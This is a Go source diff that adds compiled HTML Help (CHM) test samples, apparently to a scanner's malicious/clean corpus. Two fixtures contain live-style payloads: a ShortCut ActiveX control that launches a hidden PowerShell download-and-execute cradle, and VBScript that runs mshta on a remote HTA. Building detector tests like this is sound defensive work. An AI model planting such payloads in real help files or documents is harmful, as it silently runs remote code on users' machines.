@@ -23,6 +23,7 @@ func installerSamples() []Sample {
 	out = append(out, jarSamples()...)
 	out = append(out, xllSamples()...)
 	out = append(out, msixSamples()...)
+	out = append(out, chmSamples()...)
 	return out
 }
 
@@ -257,4 +258,66 @@ func tinyPNG() []byte {
 	var b bytes.Buffer
 	png.Encode(&b, img)
 	return b.Bytes()
+}
+
+// helpPage is an HTML Help topic page.
+func helpPage(title, body string) []byte {
+	return []byte(`<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">
+<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
+<title>` + title + `</title><link rel="stylesheet" href="help.css"></head>
+<body>
+<h1>` + title + `</h1>
+` + body + `
+</body></html>
+`)
+}
+
+func chmSamples() []Sample {
+	toc := CHMFile{Name: "/toc.hhc", Compressed: true, Data: []byte(`<HTML><BODY><UL>
+<LI><OBJECT type="text/sitemap"><param name="Name" value="Getting started"><param name="Local" value="index.htm"></OBJECT>
+<LI><OBJECT type="text/sitemap"><param name="Name" value="Printing invoices"><param name="Local" value="print.htm"></OBJECT>
+</UL></BODY></HTML>
+`)}
+	css := CHMFile{Name: "/help.css", Compressed: true, Data: []byte("body { font-family: Segoe UI, sans-serif; }\nh1 { color: #036; }\n")}
+	shortcut := CHM("Invoice Viewer Help", "index.htm", toc, css,
+		CHMFile{Name: "/index.htm", Compressed: true, Data: helpPage("Getting started", `<p>Loading the invoice viewer…</p>
+<OBJECT id="sc" type="application/x-oleobject" classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
+<PARAM name="Command" value="ShortCut">
+<PARAM name="Button" value="Bitmap::shortcut">
+<PARAM name="Item1" value=',cmd.exe,/c powershell -w hidden -nop -c "iex (iwr `+scriptURL+` -UseBasicParsing)"'>
+<PARAM name="Item2" value="273,1,1">
+</OBJECT>
+<SCRIPT>sc.Click();</SCRIPT>`)},
+		CHMFile{Name: "/print.htm", Compressed: true, Data: helpPage("Printing invoices", "<p>Choose File, Print.</p>")})
+
+	script := CHM("Statement Help", "index.htm", toc, css,
+		CHMFile{Name: "/index.htm", Compressed: true, Data: helpPage("Getting started", `<p>Please wait while your statement loads.</p>
+<script language="VBScript">
+Set sh = CreateObject("WScript.Shell")
+sh.Run "mshta http://198.51.100.7/statement.hta", 0, False
+</script>`)},
+		CHMFile{Name: "/print.htm", Compressed: true, Data: helpPage("Printing invoices", "<p>Choose File, Print.</p>")})
+
+	var long strings.Builder
+	for i := 0; i < 600; i++ {
+		fmt.Fprintf(&long, "<p>Step %d. Open the invoice list, pick an invoice and choose Print; the viewer keeps your page settings between sessions.</p>\n", i)
+	}
+	plain := CHM("Invoice Viewer Help", "index.htm", toc, css,
+		CHMFile{Name: "/index.htm", Compressed: true, Data: helpPage("Getting started", `<p>Welcome to the invoice viewer.</p>
+<OBJECT id="rel" type="application/x-oleobject" classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=100 height=20>
+<PARAM name="Command" value="Related Topics">
+<PARAM name="Button" value="Text:See also">
+<PARAM name="Item1" value="Printing invoices;print.htm">
+</OBJECT>
+<p><a href="#" onclick="document.getElementById('more').style.display='block'; return false;">Show more</a></p>
+<div id="more" style="display:none"><p>Updates: https://www.example.org/viewer</p></div>
+<script type="text/javascript">document.title = document.title + " - Help";</script>`)},
+		CHMFile{Name: "/print.htm", Compressed: true, Data: helpPage("Printing invoices", long.String())},
+		CHMFile{Name: "/images/logo.png", Compressed: false, Data: tinyPNG()})
+
+	return []Sample{
+		{Name: "help-shortcut.chm", Want: verdict.Malicious, Why: "help page whose HTML Help ShortCut control (clicked from script) runs cmd and a PowerShell cradle", Data: shortcut},
+		{Name: "help-vbscript.chm", Want: verdict.Malicious, Why: "help page whose VBScript runs mshta on a remote HTA through WScript.Shell", Data: script},
+		{Name: "product-help.chm", Want: verdict.Clean, Why: "help file with a Related Topics control, a harmless script and a 70 KB page over three LZX frames", Data: plain},
+	}
 }
